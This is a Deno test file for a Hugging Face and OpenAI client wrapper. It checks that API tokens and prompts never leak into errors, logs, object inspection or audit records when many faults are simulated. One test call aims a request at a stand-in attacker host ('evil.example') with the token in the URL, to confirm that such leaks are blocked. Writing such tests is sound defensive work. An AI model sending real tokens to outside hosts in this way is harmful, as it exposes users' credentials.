// deno-lint-ignore-file no-console -- what clients print is part of what is searched
/**
 * Nothing that a person, a log or a saved notebook can see holds the token or the prompt, whatever
 * goes wrong and whichever client is used.
 */

import assert from "node:assert/strict";
import { InferenceClient } from "@huggingface/inference";
import { listModels } from "@huggingface/hub";
import OpenAI from "openai";
import { loading, rateLimited, startStandIn } from "../../scripts/stand_in/server.ts";
import { connect } from "../../src/inference/connect.ts";
import { guardedFetch } from "../../src/inference/guarded_fetch.ts";
import { chat, prompt, testOptions } from "./kit.ts";

/** Everything that could be shown of a value. */
function everything(value: unknown): string {
  const texts = [
    Deno.inspect(value, { depth: 99, showHidden: true, getters: true }),
    String(value),
  ];
  try {
    texts.push(Deno.inspect(structuredClone(value), { depth: 99, showHidden: true }));
  } catch { /* cannot be cloned */ }
  try {
    texts.push(JSON.stringify(value) ?? "");
  } catch { /* circular */ }
  if (typeof value === "object" && value !== null) {
    for (const key of Reflect.ownKeys(value)) {
      try {
        texts.push(Deno.inspect(Reflect.get(value, key), { depth: 20, showHidden: true }));
      } catch { /* a getter that throws */ }
    }
    if (value instanceof Error) {
      texts.push(value.stack ?? "");
      // What a page or a kernel is told of an error that nobody caught.
      const event = new ErrorEvent("error", { error: value, message: value.message });
      texts.push(Deno.inspect(event, { depth: 99, showHidden: true }));
      for (let { cause } = value; cause !== undefined; cause = (cause as Error)?.cause) {
        texts.push(Deno.inspect(cause, { depth: 99, showHidden: true }), String(cause));
      }
    }
  }
  return texts.join("\n");
}

/** Runs a body and gives everything it wrote to the console. */
async function withConsole(body: () => Promise<void>): Promise<string> {
  let written = "";
  const names = ["log", "info", "warn", "error", "debug"] as const;
  const real = names.map((name) => console[name]);
  for (const name of names) {
    console[name] = (...values: unknown[]) => written += values.map(everything).join(" ");
  }
  try {
    await body();
  } finally {
    names.forEach((name, index) => console[name] = real[index]!);
  }
  return written;
}

Deno.test("no error, log, inspection, JSON or audit record holds token or prompt", async () => {
  await using hub = startStandIn();
  // A server that repeats in its errors what it was sent, headers included.
  const echo = { error: `${prompt} ${hub.token}`, message: prompt, detail: hub.token };
  const coded = { error: { message: prompt, code: prompt, type: hub.token, param: prompt } };
  const headers = {
    "x-error-message": prompt,
    "x-request-id": hub.token,
    "x-error-code": prompt,
    "retry-after-ms": "1",
  };
  const faults = [
    ...[400, 401, 402, 403, 404, 408, 413, 422, 429, 500, 502, 503, 504].map((status) => ({
      status,
      body: echo,
      headers,
      times: 4,
    })),
    { status: 400, body: coded, headers },
    rateLimited(7200),
    loading(7200),
    { hangUp: true, times: 4 },
    { status: 200, body: `{"broken": "${prompt}` },
    { status: 200, body: echo },
    { errorAfterEvents: 1 },
    { breakAfterEvents: 1 },
  ];
  const options = testOptions(hub, { priority: 1 });
  let shown = "";
  shown += await withConsole(async () => {
    using hf = await connect(options);
    using fetch = await guardedFetch(options);
    const openai = new OpenAI({
      baseURL: "https://router.huggingface.co/v1",
      apiKey: fetch.placeholder,
      fetch,
      logLevel: "debug",
    });
    const calls: (() => Promise<unknown>)[] = [
      () => hf.chatCompletion(chat),
      () => Array.fromAsync(hf.chatCompletionStream(chat)),
      () => hf.textGeneration({ model: "stand-in/text", inputs: prompt, provider: "hf-inference" }),
      () => hf.textToImage({ model: "stand-in/painter", inputs: prompt, provider: "hf-inference" }),
      () => hf.featureExtraction({ model: "stand-in/unknown", inputs: prompt }),
      () => hf.textToImage({ model: "stand-in/poster", inputs: prompt, provider: "replicate" }),
      () => hf.chatCompletion({ ...chat, endpointUrl: `https://evil.example/?p=${hub.token}` }),
      () => openai.chat.completions.create(chat),
      async () => {
        const stream = await openai.chat.completions.create({ ...chat, stream: true });
        return await Array.fromAsync(stream);
      },
      () => Array.fromAsync(listModels({ accessToken: fetch.placeholder, fetch })),
      () => fetch(`https://router.huggingface.co/v1/x?prompt=${prompt}&token=${hub.token}`),
      () => fetch(`https://u:${hub.token}@router.huggingface.co/v1/x`),
    ];
    shown += [hf, fetch, openai, hf.endpoint(hub.origin)].map(everything).join("\n");
    for (const fault of faults) {
      for (const call of calls) {
        hub.reset();
        hub.plan({ ...fault, path: /./ });
        await call().then(() => {}, (error) => shown += everything(error));
      }
    }
  });
  shown += JSON.stringify(options.records);
  assert.ok(options.records.length > 100);
  // openai prints its requests at this level, prompt included: that is the caller's wish, not ours.
  const withoutDebug = shown.split("\n").filter((text) => !text.includes("sending request")).join(
    "\n",
  );
  assert.ok(!withoutDebug.includes(hub.token), "the token was shown");
  const at = withoutDebug.indexOf(prompt);
  assert.equal(
    at,
    -1,
    `the prompt was shown: ${withoutDebug.slice(Math.max(0, at - 300), at + 60)}`,
  );
});

Deno.test("the search for the prompt would find it: the bare client's errors hold it", async () => {
  await using hub = startStandIn();
  hub.plan({ status: 500 });
  const bare = new InferenceClient(hub.token, { fetch: hub.fetch });
  const error = await bare.chatCompletion(chat).catch((error) => error);
  assert.ok(everything(error).includes(prompt));
  assert.ok(everything(bare).includes(hub.token));
});
